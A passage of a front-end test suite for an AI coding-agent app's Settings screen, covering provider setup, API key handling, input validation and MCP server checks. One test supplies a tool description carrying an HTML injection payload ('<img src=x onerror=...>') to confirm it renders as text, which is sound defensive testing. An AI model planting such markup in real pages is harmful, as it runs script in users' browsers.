import { cleanup, render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { mockIPC } from "@tauri-apps/api/mocks";
import type { ReactNode } from "react";
import { describe, expect, it, vi } from "vitest";
import type { Settings } from "../ipc";
import { SettingsScreen } from "../screens/Settings";
import { view } from "./fixtures";

describe("Settings", () => {
  it("names the keys of the settings file no setting takes, which change nothing", () => {
    render(<SettingsScreen view={{ ...view(), unknown_keys: ["limits.max_step"] }} onSaved={() => {}} />);
    const note = screen.getByTestId("settings-unknown-keys");
    expect(note).toHaveTextContent("a key no setting takes: limits.max_step");
    expect(note).toHaveTextContent("It changes nothing, and it is kept in the file as written");
    cleanup();
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    expect(screen.queryByTestId("settings-unknown-keys"), "nothing said when there are none").toBeNull();
  });

  it("saves the provider fields through save_settings and says so", async () => {
    let sent: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        sent = (args as { settings: Settings }).settings;
        return { settings: sent, provider_ready: true };
      }
    });
    const onSaved = vi.fn();
    render(<SettingsScreen view={view()} onSaved={onSaved} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("provider-base-url"), "http://127.0.0.1:8931/v1");
    await user.type(screen.getByTestId("provider-model"), "smollm2");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByText("Saved")).toBeInTheDocument();
    expect(sent?.provider.base_url, "the typed URL must reach the store").toBe("http://127.0.0.1:8931/v1");
    expect(sent?.provider.model).toBe("smollm2");
    expect(onSaved, "the rest of the app must learn the provider is ready").toHaveBeenCalledWith({ settings: sent, provider_ready: true });
  });

  it("the OpenAI Responses API is a protocol of its own, saved as openai_responses", async () => {
    let sent: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        sent = (args as { settings: Settings }).settings;
        return { settings: sent, provider_ready: true };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.selectOptions(screen.getByTestId("provider-kind"), "openai_responses");
    await user.type(screen.getByTestId("provider-base-url"), "https://api.openai.com/v1");
    await user.type(screen.getByTestId("provider-model"), "gpt-5");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByText("Saved")).toBeInTheDocument();
    expect(sent?.provider.kind, "the engine then speaks /responses instead of /chat/completions").toBe("openai_responses");
  });

  it("the plan for new tasks is Auto until changed, and a change is saved", async () => {
    let sent: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        sent = (args as { settings: Settings }).settings;
        return { settings: sent, provider_ready: true };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    expect(screen.getByTestId("plan-mode-select"), "a settings file without the field means Auto").toHaveValue("auto");
    expect(screen.getByTestId("review-plan"), "plans are shown before they run unless the person says otherwise").toBeChecked();
    await user.selectOptions(screen.getByTestId("plan-mode-select"), "off");
    await user.click(screen.getByTestId("review-plan"));
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByText("Saved")).toBeInTheDocument();
    expect(sent?.plan_mode, "New Task starts from the saved choice").toBe("off");
    expect(sent?.run_plans_without_review).toBe(true);
  });

  it("shows the engine's message when a field is wrong, keeping what was typed", async () => {
    mockIPC((cmd) => {
      if (cmd === "save_settings") throw { code: "invalid_settings", message: "provider.base_url: “localhost 8080” is not a URL" };
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("provider-base-url"), "localhost 8080");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error"), "the field named as the screen labels it, not as the file does").toHaveTextContent(
      "“Base URL”: “localhost 8080” is not a URL",
    );
    expect(screen.getByTestId("provider-base-url")).toHaveValue("localhost 8080");
  });
});

describe("Settings, more", () => {
  it("Test connection fills in the one model a server serves, and says that saving keeps it", async () => {
    mockIPC((cmd) => {
      if (cmd === "test_connection") return { models: ["smollm2"], model_listed: null, tools: { state: "supported" } };
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8931/v1", model: "" }, true)} onSaved={() => {}} />);
    await userEvent.setup().click(screen.getByTestId("test-connection"));
    expect(await screen.findByTestId("model-filled")).toHaveTextContent("Model set to “smollm2”, the one the server serves: Save keeps it.");
    expect(screen.getByTestId("settings-status")).toHaveTextContent("Unsaved changes");
  });

  it("Test connection reports the models, or says what is wrong", async () => {
    let fail = false;
    mockIPC((cmd) => {
      if (cmd === "test_connection") {
        if (fail) throw { code: "provider_unreachable", message: "Could not connect to the provider at http://127.0.0.1:9/v1. Check the base URL and that the server is running." };
        return { models: ["smollm2", "other"], model_listed: false, tools: { state: "supported" } };
      }
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8931/v1", model: "gpt-x" }, true)} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("test-connection"));
    expect(await screen.findByTestId("connection-report")).toHaveTextContent("Connected: 2 models listed; “gpt-x” is not among them. The model accepts tools.");
    expect(screen.getByTestId("connection-report"), "a model the server does not list is a warning, not green").toHaveClass("warn-text");
    fail = true;
    await user.click(screen.getByTestId("test-connection"));
    await vi.waitFor(() => expect(screen.getByTestId("connection-report")).toHaveTextContent("Nothing answered at this URL."));
    expect(screen.getByTestId("connection-report")).toHaveTextContent("server is running");
    await user.type(screen.getByTestId("provider-base-url"), "1");
    expect(screen.queryByTestId("connection-report"), "a report about another address is not shown under this one").toBeNull();
  });

  it("a URL without /v1 that is not the API gets a one-click 'Did you mean …/v1?'", async () => {
    mockIPC((cmd) => {
      if (cmd === "test_connection") throw { code: "provider_not_found", message: "http://127.0.0.1:8080/models answered 404." };
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8080", model: "m" }, true)} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("test-connection"));
    const fix = await screen.findByTestId("use-v1");
    expect(fix).toHaveTextContent("Did you mean http://127.0.0.1:8080/v1?");
    expect(screen.getByTestId("connection-report")).toHaveTextContent("Not found at this URL.");
    fix.focus();
    await user.keyboard("{Enter}");
    expect(screen.getByTestId("provider-base-url")).toHaveValue("http://127.0.0.1:8080/v1");
    expect(screen.getByTestId("test-connection"), "the link is gone; the focus on what to do next").toHaveFocus();
  });

  it("Test connection names a field the engine refused as the form labels it, as Save does", async () => {
    mockIPC((cmd) => {
      if (cmd === "test_connection") throw { code: "invalid_settings", message: "provider.api_key_env: “MY KEY” is not an environment variable name (letters, digits and _ only)" };
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8080/v1", model: "m" }, true)} onSaved={() => {}} />);
    await userEvent.setup().click(screen.getByTestId("test-connection"));
    const report = await screen.findByTestId("connection-report");
    expect(report).toHaveTextContent("Check the form. “API key environment variable”: “MY KEY” is not an environment variable name");
    expect(report).not.toHaveTextContent("provider.api_key_env");
  });

  it("Test connection marks the field to look at: the Base URL for a server not there, the key for a key refused", async () => {
    let refusal = { code: "provider_unreachable", message: "Nothing answers at http://127.0.0.1:8081/v1 (connection refused). Check the base URL and that the server is running." };
    mockIPC((cmd) => {
      if (cmd === "test_connection") throw refusal;
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8081/v1", model: "m" }, true)} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("test-connection"));
    await screen.findByTestId("connection-report");
    expect(screen.getByTestId("provider-base-url")).toHaveAttribute("aria-invalid", "true");
    await user.type(screen.getByTestId("provider-base-url"), "0");
    expect(screen.getByTestId("provider-base-url"), "editing the field clears the mark").not.toHaveAttribute("aria-invalid");
    refusal = { code: "auth", message: "The provider refused the API key (401): bad key. Check the key, or the environment variable it comes from." };
    await user.click(screen.getByTestId("test-connection"));
    await screen.findByText(/refused the API key/);
    expect(screen.getByTestId("provider-base-url")).not.toHaveAttribute("aria-invalid");
    expect(screen.getByTestId("key-input")).toHaveAttribute("aria-invalid", "true");
  });

  it("Test connection of a URL with a port past 65535 says so before asking anything", async () => {
    let asked = false;
    mockIPC((cmd) => {
      if (cmd === "test_connection") asked = true;
    });
    render(<SettingsScreen view={view({ base_url: "http://localhost:99999/v1", model: "m" }, true)} onSaved={() => {}} />);
    await userEvent.setup().click(screen.getByTestId("test-connection"));
    const report = await screen.findByTestId("connection-report");
    expect(report).toHaveTextContent("“Base URL”: “http://localhost:99999/v1” is not a valid URL (check the host and the port, at most 65535)");
    expect(asked).toBe(false);
  });

  it("Test connection grades the model, and New Task warns about a model that did not call a tool", async () => {
    mockIPC((cmd) => {
      if (cmd === "test_connection")
        return {
          models: ["gemma"],
          model_listed: true,
          tools: { state: "supported" },
          context_window: 4096,
          checks: [
            { kind: "streams", passed: true, detail: "12 pieces and a finish reason" },
            { kind: "follows_instruction", passed: false, detail: "asked to reply READY, it wrote “Reply with”" },
            { kind: "calls_tools", passed: false, detail: "asked to use a tool, it wrote “hi” instead; it will rarely act as an agent" },
            { kind: "clean_template", passed: false, detail: "this model answers with raw chat-template tokens (<|im_end|>): it is probably a base model" },
          ],
        };
    });
    render(<SettingsScreen view={view({ base_url: "http://127.0.0.1:8932/v1", model: "gemma" }, true)} onSaved={() => {}} />);
    await userEvent.setup().click(screen.getByTestId("test-connection"));
    const checks = await screen.findByTestId("model-checks");
    expect(checks).toHaveTextContent("✓ Streams");
    expect(checks).toHaveTextContent("✗ Calls tools");
    expect(checks).toHaveTextContent("probably a base model");
    expect(screen.getByTestId("server-context-window")).toHaveTextContent("4,096 tokens");
    cleanup();
    const { NewTask } = await import("../screens/NewTask");
    render(<NewTask providerReady defaultModel="gemma" onOpenSettings={() => {}} onStarted={() => {}} />);
    expect(screen.getByTestId("model-warning")).toHaveTextContent("gemma did not call a tool");
    await userEvent.setup().clear(screen.getByTestId("task-model"));
    await userEvent.setup().type(screen.getByTestId("task-model"), "qwen2.5-coder");
    expect(screen.queryByTestId("model-warning"), "another model has no such grade").toBeNull();
  });

  it("verify commands are edited as folder: command lines and saved as a map", async () => {
    let sent: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        sent = (args as { settings: Settings }).settings;
        return { settings: sent, provider_ready: true };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("verify-commands"), "/home/me/p: cargo test{enter}/home/me/p: cargo clippy");
    await user.click(screen.getByTestId("save-settings"));
    await screen.findByText("Saved");
    expect(sent?.verify_commands).toEqual({ "/home/me/p": ["cargo test", "cargo clippy"] });
  });
});

describe("Settings, prices", () => {
  it("prices are edited as model: input output lines", async () => {
    let sent: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "save_settings") {
        sent = (args as { settings: Settings }).settings;
        return { settings: sent, provider_ready: true };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.type(screen.getByTestId("prices"), "gpt-4.1-mini: 0.4 1.6{enter}{enter}");
    await user.click(screen.getByTestId("save-settings"));
    await screen.findByText("Saved");
    expect(sent?.prices).toEqual({ "gpt-4.1-mini": { input_per_mtok: 0.4, output_per_mtok: 1.6 } });
  });
});

const PRESETS = [
  { id: "openai", label: "OpenAI", kind: "openai", base_url: "https://api.openai.com/v1", models: ["gpt-4.1"], key_env: "OPENAI_API_KEY", local: false, hint: "Key from platform.openai.com" },
  { id: "ollama", label: "Ollama", kind: "openai", base_url: "http://localhost:11434/v1", models: ["qwen2.5-coder:7b"], key_env: null, local: true, hint: "Start it with ollama serve" },
  { id: "anthropic", label: "Anthropic", kind: "anthropic", base_url: "https://api.anthropic.com/v1", models: ["claude-sonnet-4-5"], key_env: "ANTHROPIC_API_KEY", local: false, hint: "" },
  { id: "llamacpp", label: "llama.cpp server", kind: "openai", base_url: "http://127.0.0.1:8080/v1", models: [], key_env: null, local: true, hint: "" },
];

describe("Settings, saving from the keyboard", () => {
  it("Ctrl+S in any field saves", async () => {
    const { saved, user } = settingsSavingInto();
    await user.click(screen.getByTestId("prices"));
    await user.keyboard("{Control>}s{/Control}");
    expect(await screen.findByText("Saved"), "Ctrl+S does what the Save button does").toBeInTheDocument();
    expect(saved).toHaveLength(1);
  });

  it("another ACP agent chosen with no command is not saved as the built-in agent: Save says the command is missing", async () => {
    const { saved, user } = settingsSavingInto();
    await user.selectOptions(await screen.findByTestId("agent-select"), "custom");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByRole("alert")).toHaveTextContent("“Command that speaks ACP over stdio” is empty. Nothing was saved.");
    expect(saved, "nothing saved").toHaveLength(0);
    expect(screen.getByTestId("agent-command")).toHaveFocus();
  });

  it("Ctrl+S saves also after a click on blank space, where the focus is on the page around the form", async () => {
    const { saved, user } = settingsSavingInto((form) => (
      <main className="content" tabIndex={-1}>
        {form}
      </main>
    ));
    await user.type(screen.getByTestId("provider-model"), "smollm2");
    (document.querySelector("main.content") as HTMLElement).focus();
    await user.keyboard("{Control>}s{/Control}");
    expect(await screen.findByText("Saved")).toBeInTheDocument();
    expect(saved, "once, not once for the form and once for the window").toHaveLength(1);
  });
});

/** Settings on screen (inside `around`, when given), with every save the engine would get kept
 * in `saved`. */
function settingsSavingInto(around: (form: ReactNode) => ReactNode = (form) => form) {
  const saved: unknown[] = [];
  mockIPC((cmd, args) => {
    if (cmd === "provider_presets") return [];
    if (cmd === "save_settings") {
      saved.push(args);
      return view();
    }
  });
  render(around(<SettingsScreen view={view()} onSaved={() => {}} />));
  return { saved, user: userEvent.setup() };
}

describe("Settings with several mistakes", () => {
  it("one Save names every field the form can tell is wrong, not one more per Save", async () => {
    const { saved, user } = settingsSavingInto();
    const retries = screen.getByTestId("max-retries");
    await user.clear(retries);
    await user.type(retries, "-3");
    await user.type(screen.getByTestId("verify-commands"), "cargo test");
    await user.type(screen.getByTestId("prices"), "my-model: cheap");
    const url = screen.getByTestId("provider-base-url");
    await user.clear(url);
    await user.type(url, "not a url");
    await user.click(screen.getByTestId("save-settings"));
    const said = await screen.findByTestId("settings-error");
    expect(said).toHaveTextContent("“Max retries” takes 1 or more (it is -3)");
    expect(said).toHaveTextContent("Verify commands: “cargo test” is not “folder: command”");
    expect(said).toHaveTextContent("Prices: “my-model: cheap” is not “model: input output”");
    expect(said).toHaveTextContent("“Base URL”: “not a url” is not a URL starting with http:// or https://; it should look like http://127.0.0.1:8080/v1");
    expect(said).toHaveTextContent(/Nothing was saved\.$/);
    expect(saved).toHaveLength(0);
    expect(url, "the focus goes to the first from the top: the Base URL, above Limits").toHaveFocus();
    expect(said.textContent!.indexOf("Base URL"), "and it is named first, as the form reads").toBeLessThan(said.textContent!.indexOf("Max retries"));
    expect(url, "a field the form found wrong is marked, as one the engine refuses is").toHaveAttribute("aria-invalid", "true");
  });

  it("what only the engine checks (the evaluator's server, the worktree folder) is named at the same Save, each field marked", async () => {
    const saved: unknown[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "provider_presets") return [];
      // As Tauri would: a limit that is no whole number of the engine's kind is not read at all.
      if (cmd === "check_settings" && !((args as { settings: Settings }).settings.limits.max_retries >= 0)) throw { code: "invalid_input", message: "invalid value: integer `-3`, expected u32" };
      if (cmd === "check_settings")
        return [
          { field: "evaluator_provider.base_url", problem: "“ftp://x” is not an http(s) URL; it should look like https://api.openai.com/v1" },
          { field: "tasks.worktree_dir", problem: "“relative/dir” is not a full path: worktrees need a folder such as /home/you/worktrees" },
          { field: "limits.max_retries", problem: "must be between 1 and 50, not -3" },
        ];
      if (cmd === "save_settings") saved.push(args);
      return undefined;
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    const retries = screen.getByTestId("max-retries");
    await user.clear(retries);
    await user.type(retries, "-3");
    await user.type(screen.getByTestId("evaluator-base-url"), "ftp://x");
    await user.type(screen.getByTestId("worktree-dir"), "relative/dir");
    await user.click(screen.getByTestId("save-settings"));
    const said = await screen.findByTestId("settings-error");
    expect(said).toHaveTextContent("“Evaluator server”: “ftp://x” is not an http(s) URL");
    expect(said).toHaveTextContent("“Worktree folder”: “relative/dir” is not a full path");
    expect(said).toHaveTextContent("“Max retries” takes 1 or more (it is -3)");
    expect(said.textContent!.match(/Max retries/g), "a field the form names is not named again in the engine's words").toHaveLength(1);
    expect(said).toHaveTextContent(/Nothing was saved\.$/);
    expect(saved, "nothing was sent to be saved").toHaveLength(0);
    expect(screen.getByTestId("evaluator-base-url")).toHaveAttribute("aria-invalid", "true");
    expect(screen.getByTestId("worktree-dir")).toHaveAttribute("aria-invalid", "true");
    expect(screen.getByTestId("evaluator-base-url"), "the focus on the first from the top").toHaveFocus();
  });
});

describe("Settings the engine refuses", () => {
  it("a key variable that is no variable name: the engine's refusal takes the focus to the field, marks it and says nothing was saved", async () => {
    const saved: unknown[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "provider_presets") return [];
      if (cmd === "save_settings") {
        saved.push(args);
        throw { code: "invalid_settings", message: "provider.api_key_env: “MY KEY” is not an environment variable name (letters, digits and _ only)" };
      }
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    const url = screen.getByTestId("provider-key-env");
    await user.type(url, "MY KEY");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“API key environment variable”: “MY KEY” is not an environment variable name (letters, digits and _ only). Nothing was saved.");
    expect(url, "the focus goes to the field to fix").toHaveFocus();
    expect(url).toHaveAttribute("aria-invalid", "true");
    await user.type(url, "x");
    expect(url, "edited, it is no longer marked").not.toHaveAttribute("aria-invalid");
  });
});

describe("Settings, numbers out of range", () => {
  it("Save and Ctrl+S name the field and what it takes, keep the number typed and save nothing", async () => {
    const { saved, user } = settingsSavingInto();
    const retries = screen.getByTestId("max-retries");
    await user.clear(retries);
    await user.type(retries, "-3");
    expect(retries, "marked as it is typed, before Save").toHaveAttribute("aria-invalid", "true");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“Max retries” takes 1 or more (it is -3). Nothing was saved.");
    expect(
      screen.getByTestId("save-settings").closest(".settings-actions")?.contains(screen.getByTestId("settings-error")),
      "why it did not save sits beside Save, in the bar pinned to the window, not at the page's far end",
    ).toBe(true);
    expect(retries, "the focus goes to the field to fix").toHaveFocus();
    await user.click(screen.getByTestId("prices"));
    await user.keyboard("{Control>}s{/Control}");
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“Max retries” takes 1 or more");
    expect(saved, "nothing reached the engine, whose own message would name no field").toHaveLength(0);
    expect(retries).toHaveValue(-3);
    await user.clear(retries);
    await user.type(retries, "3");
    expect(retries, "fixed, it is no longer marked").not.toHaveAttribute("aria-invalid");
    expect(screen.queryByTestId("settings-error"), "nor does the message about -3 stay").toBeNull();
  });
});

describe("Settings, numbers a person can type", () => {
  it("a huge number, a fraction or an emptied box is named in words at Save, never reaching the engine's raw refusal", async () => {
    const { saved, user } = settingsSavingInto();
    const timeout = screen.getByTestId("step-timeout");
    await user.clear(timeout);
    await user.type(timeout, "5000000000");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“Step time limit (seconds)” takes 86,400 or less (it is 5000000000). Nothing was saved.");
    await user.clear(timeout);
    await user.type(timeout, "60.5");
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“Step time limit (seconds)” takes a whole number (it is 60.5). Nothing was saved.");
    await user.clear(timeout);
    await user.keyboard("{Control>}s{/Control}");
    expect(await screen.findByTestId("settings-error"), "an empty box is not the last number typed into it").toHaveTextContent("“Step time limit (seconds)” needs a number. Nothing was saved.");
    expect(saved).toHaveLength(0);
  });

  it("a box left empty is named when Save is clicked, as with Ctrl+S: leaving it does not put the last number back", async () => {
    const { saved, user } = settingsSavingInto();
    const retries = screen.getByTestId("max-retries");
    await user.clear(retries);
    await user.click(screen.getByTestId("save-settings"));
    expect(await screen.findByTestId("settings-error")).toHaveTextContent("“Max retries” needs a number. Nothing was saved.");
    expect(retries, "still empty, to be filled").toHaveValue(null);
    expect(retries).toHaveFocus();
    await user.tab();
    expect(retries, "leaving it keeps it as it is").toHaveValue(null);
    expect(retries).toHaveAttribute("aria-invalid", "true");
    expect(saved, "nothing saved, not the number it held before").toHaveLength(0);
  });

  it("several fields wrong at once are all named at Save, the focus on the first", async () => {
    const { saved, user } = settingsSavingInto();
    const retries = screen.getByTestId("max-retries");
    const timeout = screen.getByTestId("step-timeout");
    await user.clear(retries);
    await user.type(retries, "-3");
    await user.clear(timeout);
    await user.type(timeout, "60.5");
    await user.click(screen.getByTestId("save-settings"));
    const said = await screen.findByTestId("settings-error");
    expect(said).toHaveTextContent("“Max retries” takes 1 or more (it is -3)");
    expect(said, "not one at a time, a Save for each").toHaveTextContent("“Step time limit (seconds)” takes a whole number (it is 60.5)");
    expect(said).toHaveTextContent(/Nothing was saved\.$/);
    expect(saved).toHaveLength(0);
    expect(document.activeElement === retries || document.activeElement === timeout, "the focus is on a field to fix").toBe(true);
    const listed = screen.getAllByTestId("settings-problem");
    expect(listed.map((b) => b.textContent), "one line each, not one sentence").toEqual([
      "“Max retries” takes 1 or more (it is -3)",
      "“Step time limit (seconds)” takes a whole number (it is 60.5)",
    ]);
    await user.click(listed[1]);
    expect(timeout, "each line takes the person to its field").toHaveFocus();
    await user.clear(timeout);
    await user.type(timeout, "60");
    expect(screen.queryByTestId("settings-error"), "an edit makes the list stale: it goes").toBeNull();
  });
});

describe("Settings, providers and keys", () => {
  it("a preset fills protocol, URL, model and key variable in one click", async () => {
    mockIPC((cmd) => {
      if (cmd === "provider_presets") return PRESETS;
      if (cmd === "key_status") return { source: { kind: "missing", var: "ANTHROPIC_API_KEY" }, keychain: { state: "available" }, env_var: "ANTHROPIC_API_KEY" };
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(await screen.findByTestId("preset-anthropic"));
    expect(screen.getByTestId("provider-kind")).toHaveValue("anthropic");
    expect(screen.getByTestId("provider-base-url")).toHaveValue("https://api.anthropic.com/v1");
    expect(screen.getByTestId("provider-model")).toHaveValue("claude-sonnet-4-5");
    expect(screen.getByTestId("provider-key-env")).toHaveValue("ANTHROPIC_API_KEY");
    expect(screen.getByTestId("preset-anthropic")).toHaveAttribute("aria-pressed", "true");
    await user.click(screen.getByTestId("preset-ollama"));
    expect(screen.getByTestId("provider-base-url"), "Ollama's OpenAI-compatible endpoint").toHaveValue("http://localhost:11434/v1");
    expect(screen.getByTestId("provider-key-env"), "a local server needs no key").toHaveValue("");
  });

  it("a key variable named with a space is not echoed back as the one to set: the hint says what a name may hold", async () => {
    mockIPC((cmd) => {
      if (cmd === "provider_presets") return PRESETS;
      if (cmd === "key_status") return { source: { kind: "missing", var: "my key" }, keychain: { state: "available" }, env_var: "my key" };
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const hint = await screen.findByText(/^No key yet/);
    expect(hint).not.toHaveTextContent("Set my key");
    expect(hint).toHaveTextContent("letters, digits and _");
  });

  it("switching to a preset that names no model clears the previous provider's model instead of keeping it", async () => {
    mockIPC((cmd) => {
      if (cmd === "provider_presets") return PRESETS;
      if (cmd === "key_status") return { source: { kind: "missing", var: "OPENAI_API_KEY" }, keychain: { state: "available" }, env_var: "OPENAI_API_KEY" };
    });
    render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(await screen.findByTestId("preset-anthropic"));
    expect(screen.getByTestId("provider-model")).toHaveValue("claude-sonnet-4-5");
    await user.click(screen.getByTestId("preset-llamacpp"));
    expect(screen.getByTestId("provider-model"), "claude-sonnet-4-5 does not exist on a llama.cpp server; Test connection fills in the one it serves").toHaveValue("");
  });

  it("without a keychain it says so, offers no keychain button, and a session key still works", async () => {
    const saved: { key: string; place: string }[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "provider_presets") return PRESETS;
      const unavailable = { state: "unavailable", reason: "No OS keychain is available here (no secret service)." };
      if (cmd === "key_status") return { source: { kind: "missing", var: "OPENAI_API_KEY" }, keychain: unavailable, env_var: "OPENAI_API_KEY" };
      if (cmd === "save_key") {
        const a = args as { key: string; place: string };
        saved.push({ key: a.key, place: a.place });
        return { source: { kind: "session" }, keychain: unavailable, env_var: "OPENAI_API_KEY" };
      }
    });
    render(<SettingsScreen view={view({ base_url: "https://api.openai.com/v1", model: "gpt-4.1" }, true)} onSaved={() => {}} />);
    const user = userEvent.setup();
    expect(await screen.findByTestId("no-keychain")).toHaveTextContent("No OS keychain is available on this system");
    expect(screen.getByTestId("no-keychain"), "the alternative is named").toHaveTextContent("OPENAI_API_KEY");
    await user.type(screen.getByTestId("key-input"), "sk-session-only");
    expect(screen.queryByTestId("save-key-keychain"), "no silent fallback, and no button that can never be used").toBeNull();
    expect(screen.getByTestId("save-key-session"), "the one way left").toBeEnabled();
    await user.click(screen.getByTestId("save-key-session"));
    expect(await screen.findByTestId("key-source")).toHaveTextContent("for this session");
    expect(saved).toEqual([{ key: "sk-session-only", place: "session" }]);
    expect(screen.getByTestId("key-input"), "the key leaves the form once handed over").toHaveValue("");
  });

  it("Enter in the key field saves the key, not the settings; a pasted key not yet saved is unsaved work that Save keeps", async () => {
    const calls: { cmd: string; key?: string; place?: string }[] = [];
    mockIPC((cmd, args) => {
      if (cmd === "provider_presets") return PRESETS;
      const available = { state: "available" };
      if (cmd === "key_status") return { source: { kind: "missing", var: "OPENAI_API_KEY" }, keychain: available, env_var: "OPENAI_API_KEY" };
      if (cmd === "save_key") {
        const a = args as { key: string; place: string };
        calls.push({ cmd, key: a.key, place: a.place });
        return { source: { kind: "keychain" }, keychain: available, env_var: "OPENAI_API_KEY" };
      }
      if (cmd === "save_settings") {
        calls.push({ cmd });
        return { settings: (args as { settings: Settings }).settings, provider_ready: true };
      }
    });
    const guard = { current: { dirty: false, save: async () => true } };
    render(<SettingsScreen view={view({ base_url: "https://api.openai.com/v1", model: "gpt-4.1" }, true)} onSaved={() => {}} guard={guard} />);
    const user = userEvent.setup();
    await screen.findByTestId("key-source");
    await user.type(screen.getByTestId("key-input"), "sk-by-enter{Enter}");
    await vi.waitFor(() => expect(calls).toEqual([{ cmd: "save_key", key: "sk-by-enter", place: "keychain" }]));
    expect(screen.queryByText("Saved"), "Enter did not save the settings instead").toBeNull();
    expect(screen.getByTestId("key-input")).toHaveValue("");
    calls.length = 0;

    await user.type(screen.getByTestId("key-input"), "sk-pasted");
    await vi.waitFor(() => expect(guard.current.dirty, "leaving would lose the pasted key: asked first").toBe(true));
    expect(await guard.current.save()).toBe(true);
    expect(calls, "Save your changes? saves the key too").toEqual([{ cmd: "save_settings" }, { cmd: "save_key", key: "sk-pasted", place: "keychain" }]);
    await vi.waitFor(() => expect(guard.current.dirty).toBe(false));
  });

  it("Test connection names a wrong key and a model without tools", async () => {
    let answer: "auth" | "no-tools" = "auth";
    mockIPC((cmd) => {
      if (cmd === "provider_presets") return PRESETS;
      if (cmd === "key_status") return { source: { kind: "env", var: "OPENAI_API_KEY" }, keychain: { state: "available" }, env_var: "OPENAI_API_KEY" };
      if (cmd === "test_connection") {
        if (answer === "auth") throw { code: "auth", message: "The provider refused the API key (401): Incorrect API key provided." };
        return { models: ["gemma:2b"], model_listed: true, tools: { state: "unsupported", message: "The model “gemma:2b” does not support tools, so it cannot act as an agent." } };
      }
    });
    render(<SettingsScreen view={view({ base_url: "http://localhost:11434/v1", model: "gemma:2b" }, true)} onSaved={() => {}} />);
    const user = userEvent.setup();
    expect(await screen.findByTestId("key-source")).toHaveTextContent("environment variable OPENAI_API_KEY");
    await user.click(screen.getByTestId("test-connection"));
    expect(await screen.findByTestId("connection-report")).toHaveTextContent("Wrong or missing key.");
    answer = "no-tools";
    await user.click(screen.getByTestId("test-connection"));
    await vi.waitFor(() => expect(screen.getByTestId("connection-report")).toHaveAttribute("data-tools", "unsupported"));
    expect(screen.getByTestId("connection-report")).toHaveTextContent("does not support tools");
  });
});

describe("Settings, MCP servers and transfer", () => {
  it("adds a server, checks it, and lists its tools as plain text", async () => {
    let checked: Settings | undefined;
    mockIPC((cmd, args) => {
      if (cmd === "mcp_status") {
        checked = (args as { settings: Settings }).settings;
        return [
          { name: "everything", state: "running", pid: 42, tools: [{ name: "echo", description: '<img src=x onerror="document.title=1"> Echoes back', input_schema: {} }] },
        ];
      }
    });
    const { container } = render(<SettingsScreen view={view()} onSaved={() => {}} />);
    const user = userEvent.setup();
    await user.click(screen.getByTestId("mcp-add"));
    expect(screen.getByTestId("mcp-name-0"), "the new server's name takes the focus, its suggested name selected").toHaveFocus();
    await user.keyboard("everything");
    expect(screen.getByTestId("mcp-name-0")).toHaveValue("everything");
    await user.type(screen.getByTestId("mcp-command-0"), "npx");
    await user.type(screen.getByTestId("mcp-args-0"), "-y{enter}@modelcontextprotocol/server-everything");
    await user.click(screen.getByTestId("mcp-check"));
    const tools = await screen.findAllByTestId("mcp-tool");
    expect(tools[0]).toHaveTextContent("everything__echo");
    expect(checked?.mcp_servers?.[0], "the form's server reaches the check").toEqual({ name: "everything", command: "npx", args: ["-y", "@modelcontextprotocol/server-everything"], env: {}, enabled: true });
    expect(container.querySelector("img"), "a tool description is text, never markup").toBeNull();
    expect(tools[0]).toHaveTextContent("<img src=x");
  });

  it("a removed MCP server's check result goes with it, and a check on its way when one is removed is not shown", async () => {
    mockIPC((cmd) => {
      if (cmd === "mcp_status")
        return [
          { name: "broken", state: "failed", pid: null, tools: [], message: "could not start `nope`: No such file or directory" },
          { name: "files", state: "running", pid: 42, tools: [{ name: "read", description: "Reads", input_schema: {} }] },
        ];
    });
    const servers = [
